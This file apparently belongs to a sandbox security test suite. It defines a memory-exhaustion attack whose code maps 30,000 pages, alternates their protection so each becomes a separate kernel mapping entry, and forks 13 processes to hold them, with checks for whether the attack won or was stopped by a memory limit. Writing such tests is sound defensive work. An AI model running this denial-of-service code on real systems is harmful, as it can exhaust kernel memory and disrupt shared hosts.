"""Wants the kernel's memory, by mappings of one page that nobody touches: each is an entry of the kernel's own.

Won: 390,000 mappings were had at once.
"""

from tests.attacks.lab import GATHERED, Attack, Evidence

WALL = "mappings_are_counted"
CELL = """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
at = libc.mmap(None, 30_000 << 12, 3, 0x22, -1, 0)
for n in range(1, 30_000, 2):
    libc.mprotect(at + (n << 12), 4096, 1)
read, write = os.pipe()
for _ in range(13):
    if os.fork() == 0:
        os.write(write, b"1")
        time.sleep(12)
        os._exit(0)
time.sleep(1.5)
"""
TELL = """
if len(said) == 13:
    raise Exception(f"LOOT {13 * 30_000:,} mappings")
"""
ATTACK = Attack(first=[CELL, f"wanted = 13{GATHERED}", TELL])


def won(evidence: Evidence) -> bool:
    return "LOOT" in evidence.loot


def took_place(evidence: Evidence) -> bool:
    """It was ended for its memory."""
    return "MemoryLimit" in evidence.ended
